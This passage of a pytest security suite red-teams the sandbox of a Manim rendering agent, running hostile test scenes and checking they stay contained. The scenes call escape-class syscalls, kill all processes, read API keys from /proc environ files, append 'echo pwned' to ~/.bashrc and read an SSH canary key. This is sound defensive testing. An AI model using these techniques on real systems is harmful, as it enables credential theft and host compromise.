    time.sleep(1.0)
    assert not processes_with(marker), f"processes outlived the check: {processes_with(marker)}"


@needs_bwrap
def test_a_disk_filling_scene_leaves_nothing_and_is_diagnosed(box: Box, capsys) -> None:
    """HOOK layer (full stack): the scene fills the shared tex cache and its job directory, up to a
    cap of 1.5 GiB. Afterwards nothing large may remain in $MANIM_AGENT_HOME, and the diagnosis says
    a resource limit stopped it."""
    if shutil.disk_usage("/tmp").free < 10 * 2**30:
        pytest.skip("less than 10 GiB free: not filling the disk")
    path = box.scene("""
        chunk = b"\\0" * (32 * 2**20)
        written = 0
        for folder, files in ((OS.getcwd(), 24), (config["tex_dir"], 4)):
            for n in range(files):
                with open(OS.path.join(folder, "fill-%d.bin" % n), "wb") as handle:
                    handle.write(chunk)
                    handle.write(chunk)
                written += 2 * len(chunk)
        leak("wrote %d MiB without hitting a limit" % (written >> 20))
    """)
    run = check(capsys, path, timeout=50)
    left = sum(p.stat().st_size for p in box.state.rglob("*") if p.is_file())
    assert left < 64 * 2**20, f"{left >> 20} MiB left in the state directory"
    assert TAG not in run.out, _excerpt(run.out, TAG)
    assert run.data.get("ok") is False and (run.data.get("category") == "resource" or re.search(r"space|quota|too large|limit|disk|file size", run.data.get("message", ""), re.I)), run.out[:600]


@needs_bwrap
def test_a_huge_error_message_does_not_flood_the_host(box: Box, capsys) -> None:
    """FULL stack: a 64 MB exception message must not reach the host's JSON whole."""
    path = box.scene('raise ValueError("A" * (64 * 2**20))')
    run = check(capsys, path)
    assert len(run.out) < 2_000_000, f"check printed {len(run.out) >> 20} MiB"


# ------------------------------------------------------------ more techniques

ESCAPE_SYSCALLS = {
    # name: (number on x86_64, arguments chosen to do nothing even where the call is allowed)
    "open_by_handle_at": (304, (-1, 0, 0)),
    "mount": (165, (0, 0, 0, 0, 0)),
    "umount2": (166, (0, 0)),
    "keyctl": (250, (0, -4, 0)),  # KEYCTL_GET_KEYRING_ID of the user keyring, do not create
    "add_key": (248, (0, 0, 0, 0, 0)),
    "bpf": (321, (0, 0, 0)),
    "perf_event_open": (298, (0, 0, -1, -1, 0)),
    "ptrace": (101, (2, 1, 0, 0)),  # PTRACE_PEEKDATA on pid 1, never attaching
    "unshare": (272, (0x10000000,)),  # CLONE_NEWUSER: a fresh user namespace with all capabilities
    "setns": (308, (-1, 0)),
    "io_uring_setup": (425, (0, 0)),
    "userfaultfd": (323, (0,)),
    "mknod": (133, ("rt13-blk", 0o060600, 0x103)),  # a block device node in the job directory
    "init_module": (175, (0, 0, 0)),
    "kexec_load": (246, (0, 0, 0, 0)),
    "reboot": (169, (0, 0, 0, 0)),  # wrong magic numbers: EINVAL where allowed
    "pivot_root": (155, (0, 0)),
    "chroot": (161, (0,)),
}


@needs_bwrap
@x86_64
@pytest.mark.parametrize("name", sorted(ESCAPE_SYSCALLS))
def test_escape_syscalls_are_refused(box: Box, capsys, no_policy, name: str) -> None:
    """OS layer: with the hook off, each escape-class system call is made with harmless arguments.
    EPERM/ENOSYS/EACCES mean the sandbox refused it; any other answer means the kernel got to work."""
    number, args = ESCAPE_SYSCALLS[name]
    path = box.scene("""
        unhook()
        ctypes, c = libc()
        c.syscall.restype = ctypes.c_long
        result = c.syscall(ctypes.c_long(PARAMS["number"]), *[ctypes.c_char_p(a.encode()) if isinstance(a, str) else ctypes.c_long(a) for a in PARAMS["args"]])
        errno = ctypes.get_errno() if result == -1 else 0
        if result == -1 and errno in (1, 13, 38):
            held(PARAMS["call"], "refused", errno)
        leak(PARAMS["call"], "reached the kernel: result", result, "errno", errno)
    """, number=number, args=list(args), call=name)
    run = check(capsys, path)
    if "HELD:" not in run.out and TAG not in run.out:
        pytest.skip(f"the audit hook held, so the OS layer was not reached: {run.out[:300]}")
    assert_contained(box, run.out)


@needs_bwrap
@pytest.mark.parametrize("target", ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"])
def test_host_kernel_knobs_cannot_be_opened_for_writing(box: Box, capsys, no_policy, target: str) -> None:
    """OS layer: core_pattern and modprobe run programs as root on the host; the scene only opens
    them for writing (and closes them at once), it never writes."""
    path = box.scene("""
        unhook()
        try:
            fd = OS.open(PARAMS["target"], OS.O_WRONLY)
        except OSError as exc:
            held("refused", exc.errno)
        OS.close(fd)
        leak(PARAMS["target"], "is writable")
    """, target=target)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
@pytest.mark.xfail(strict=True, reason="accepted: the worker inside the single-use sandbox runs as the same uid as the "
                   "scene, serves only this job and holds no secret; the host trusts nothing it says")
def test_the_worker_process_cannot_be_read_or_traced(box: Box, capsys, no_policy) -> None:
    """OS layer: the parent inside the sandbox (the warm worker, which serves other jobs) must not be
    readable through /proc/PID/mem or attachable with ptrace."""
    path = box.scene("""
        unhook()
        parent = OS.getppid()
        got = []
        try:
            maps = open("/proc/%d/maps" % parent).read().splitlines()
            start = int(maps[0].split("-")[0], 16)
            fd = OS.open("/proc/%d/mem" % parent, OS.O_RDONLY)
            OS.lseek(fd, start, 0)
            if OS.read(fd, 16):
                got.append("read the parent's memory")
        except BaseException as exc:
            pass
        ctypes, c = libc()
        c.ptrace.restype = ctypes.c_long
        if c.ptrace(ctypes.c_long(16), ctypes.c_long(parent), None, None) == 0:  # PTRACE_ATTACH
            c.ptrace(ctypes.c_long(17), ctypes.c_long(parent), None, None)  # PTRACE_DETACH at once
            got.append("attached to the parent")
        if got:
            leak(got)
        held("parent private")
    """)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_kill_everything_does_not_hurt_other_jobs_or_host_processes(box: Box, capsys, no_policy) -> None:
    """OS layer: the scene sends SIGKILL to every process it can (kill(-1)) and to a host process
    whose pid it was given, while an honest job runs next to it."""
    host_sleep = subprocess.Popen(["sleep", "60"])
    slow = box.tmp / "slow.py"
    slow.write_text("from manim import *\nimport time\n\nclass Slow(Scene):\n    def construct(self):\n"
                    "        time.sleep(5)\n        self.add(Dot())\n")
    result: dict = {}
    thread = threading.Thread(target=lambda: result.update(d=render_scene.check_file(slow, timeout=30)))
    thread.start()
    try:
        time.sleep(2)
        path = box.scene("""
            unhook()
            for target in (PARAMS["pid"], -1):
                try:
                    OS.kill(target, 9)
                except BaseException:
                    pass
            self.add(Dot())
        """, pid=host_sleep.pid)
        check(capsys, path)
        thread.join(60)
        assert host_sleep.poll() is None, "a host process was killed from inside the sandbox"
        assert result["d"].ok, f"an honest job running next to it was killed: {result['d'].to_json()}"
    finally:
        host_sleep.kill()
        host_sleep.wait()
        thread.join(60)


@needs_bwrap
def test_no_descriptor_leads_out_of_the_job(box: Box, capsys, no_policy) -> None:
    """OS layer: every file descriptor the scene holds; none may be a directory or a file outside its
    job, or a connected socket (which could reach the host or the worker)."""
    path = box.scene("""
        here = OS.getcwd()
        bad = []
        for name in OS.listdir("/proc/self/fd"):
            try:
                target = OS.readlink("/proc/self/fd/" + name)
            except OSError:
                continue
            if target.startswith(("pipe:", "anon_inode:", "/dev/null", "/dev/pts", "/dev/urandom")):
                continue
            if target.startswith(here + "/") or target.startswith("/proc/") and "/fd" in target:
                continue
            if target.startswith("/usr/") or ".venv" in target or "site-packages" in target:
                continue  # read-only code
            bad.append((int(name), target))
        if bad:
            leak("descriptors leading out of the job", bad)
        held("fine")
    """)
    run = check(capsys, path)
    assert_contained(box, run.out)


@needs_bwrap
def test_api_keys_never_reach_any_process_in_the_sandbox(box: Box, capsys, no_policy) -> None:
    """OS layer: the CLI runs with an API key exported; the scene (hook off) reads the environment of
    every process it can see."""
    key = box.token("APIKEY")
    path = box.scene("""
        unhook()
        found = [str(sorted(OS.environ.items()))] if PARAMS["needle"] in str(OS.environ) else []
        for pid in OS.listdir("/proc"):
            if pid.isdigit():
                data = try_read("/proc/" + pid + "/environ", 100000) or ""
                if "_API_KEY" in data:
                    found.append(data)
        if found:
            leak(found)
        held("no key")
    """, needle="OPENAI_API_KEY")
    env = {**os.environ, "OPENAI_API_KEY": key}
    proc = subprocess.run([sys.executable, "-m", "manim_agent.cli", "check", str(path), "--json", "--no-layout",
                           "--timeout", "20"], capture_output=True, text=True, env=env, timeout=90)
    assert key not in proc.stdout + proc.stderr, _excerpt(proc.stdout, key)
    assert_contained(box, proc.stdout + proc.stderr)


# ------------------------------------------------------------ 9. without bubblewrap (rlimits)


@pytest.fixture
def unisolated(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("MANIM_AGENT_SANDBOX", "rlimits")
    monkeypatch.delenv("MANIM_AGENT_ALLOW_UNISOLATED", raising=False)
    clear = getattr(getattr(sandbox, "sandbox_method", None), "cache_clear", lambda: None)
    clear()
    yield
    monkeypatch.delenv("MANIM_AGENT_SANDBOX")
    clear()


NOT_ISOLATED = re.compile(r"\bnot isolated\b|\bno (os )?isolation\b|\bunisolated\b", re.I)


def test_unisolated_refuses_untrusted_sources(box: Box, unisolated, monkeypatch) -> None:
    from manim_agent.errors import IsolationUnavailable

    for source in ("the MCP server", "the web UI"):
        with pytest.raises(IsolationUnavailable):
            sandbox.require_isolation(source)
    monkeypatch.setenv("MANIM_AGENT_ALLOW_UNISOLATED", "1")
    sandbox.require_isolation("the MCP server")


def test_unisolated_doctor_says_plainly_that_code_is_not_isolated(box: Box, capsys, unisolated) -> None:
    run = run_cli(capsys, "doctor", "--json", "--quick")
    checks = json.loads(run.out[run.out.index("["):run.out.rindex("]") + 1])
    [entry] = [c for c in checks if c.get("name") == "sandbox"]
    assert NOT_ISOLATED.search(json.dumps(entry)), entry


def test_unisolated_check_json_says_plainly_that_code_is_not_isolated(box: Box, capsys, unisolated) -> None:
    honest = box.tmp / "honest.py"
    honest.write_text("from manim import *\n\nclass Honest(Scene):\n    def construct(self):\n        self.add(Dot())\n")
    run = check(capsys, honest)
    assert run.data.get("ok"), run.out[:400]
    assert run.data.get("isolated") is False or NOT_ISOLATED.search(run.out), run.data


def _cli_subprocess(path: Path, env_extra: dict[str, str]) -> str:
    env = {**os.environ, **env_extra}
    proc = subprocess.run([sys.executable, "-m", "manim_agent.cli", "check", str(path), "--json", "--no-layout",
                           "--timeout", "20"], capture_output=True, text=True, env=env, timeout=90)
    return proc.stdout + proc.stderr


def test_unisolated_child_environment_has_no_api_key(box: Box, unisolated) -> None:
    """HOOK layer, rlimits: the scene's own environment carries no key (this much must hold)."""
    key = box.token("APIKEY")
    path = box.scene("""
        mine = str(sorted(vars(OS)["environ"].items())) + (try_read("/proc/self/environ", 100000) or "")
        if PARAMS["needle"] in mine:
            leak(mine)
        self.add(Dot())
    """, needle="_API_KEY")
    out = _cli_subprocess(path, {"OPENAI_API_KEY": key, "MANIM_AGENT_SANDBOX": "rlimits"})
    assert key not in out and TAG not in out, out[-600:]
    assert '"ok": true' in out, out[-600:]


GAP = pytest.mark.xfail(strict=True, reason="no OS isolation without bubblewrap")


@GAP
def test_unisolated_api_key_read_from_the_parent_environ(box: Box, unisolated) -> None:
    """HOOK layer, rlimits: /proc/PID/environ through dir_fd slips past the hook's path check."""
    key = box.token("APIKEY")
    path = box.scene("""
        found = []
        for pid in OS.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                d = OS.open("/proc/" + pid, OS.O_RDONLY)
                fd = OS.open("environ", OS.O_RDONLY, dir_fd=d)
                data = OS.read(fd, 100000).decode(errors="replace")
            except BaseException:
                continue
            found += [v for v in data.split("\\0") if v.startswith("OPENAI_API_KEY=")]
        if found:
            leak(found)
        held("no key")
    """)
    out = _cli_subprocess(path, {"OPENAI_API_KEY": key, "MANIM_AGENT_SANDBOX": "rlimits"})
    assert key not in out, _excerpt(out, key)


@GAP
def test_unisolated_host_files_are_not_written_or_read(box: Box, capsys, unisolated) -> None:
    """HOOK layer, rlimits: dir_fd writes ~/.bashrc and reads ~/.ssh/id_canary; pycairo writes a file."""
    path = box.scene("""
        d = OS.open(PARAMS["home"], OS.O_RDONLY)
        fd = OS.open(".bashrc", OS.O_WRONLY | OS.O_APPEND, dir_fd=d)
        OS.write(fd, b"echo pwned\\n")
        key = OS.read(OS.open(".ssh/id_canary", OS.O_RDONLY, dir_fd=d), 200)
        cairo_mod = module("manim.camera.camera").cairo
        cairo_mod.ImageSurface(cairo_mod.FORMAT_ARGB32, 4, 4).write_to_png(PARAMS["png"])
        leak(key)
    """, home=str(box.home), png=str(box.canary.parent / "rt13-cwrite.png"))
    run = check(capsys, path)
    assert (box.home / ".bashrc").read_text() == "# original bashrc\n", "~/.bashrc was changed"
    assert not (box.canary.parent / "rt13-cwrite.png").exists(), "a host file was written from C"
    assert_contained(box, run.out)


@GAP
def test_unisolated_scene_cannot_reach_a_local_listener(box: Box, capsys, unisolated) -> None:
    """OS layer, rlimits: hook switched off, then a TCP connection to a listener on 127.0.0.1."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    try:
        path = box.scene("""
            unhook()
            s = module("socket").create_connection(("127.0.0.1", PARAMS["port"]), timeout=3)
            s.sendall(b"hello from the scene")
            s.close()
            self.add(Dot())
        """, port=port)
        check(capsys, path)
        try:
            conn, _ = listener.accept()
            conn.close()
            reached = True
        except OSError:
            reached = False
    finally:
        listener.close()
    assert not reached, "the scene connected to a host listener on 127.0.0.1"


def test_unisolated_tex_cannot_read_the_projects_dotenv(box: Box, capsys, unisolated, monkeypatch) -> None:
    """HOOK layer, rlimits: LaTeX is a separate program, so the audit hook never sees its \\openin of
    the .env in the user's project folder (the CLI's working directory). This one must hold even
    without bubblewrap: openin_any=p in LaTeX's environment refuses absolute paths."""
    dotenv = box.tmp / ".env"
    dotenv.write_text(f"RT13_DOTENV_SECRET={box.token('DOTENV')}\n")
    monkeypatch.setenv("RT13_DOTENV_SECRET", "")  # the CLI loads ./.env; monkeypatch restores it afterwards
    monkeypatch.delenv("RT13_DOTENV_SECRET")
    path = box.scene(_tex_reader(str(dotenv)))
    try:
        run = check(capsys, path)
    finally:
        os.environ.pop("RT13_DOTENV_SECRET", None)
    assert_contained(box, run.out)
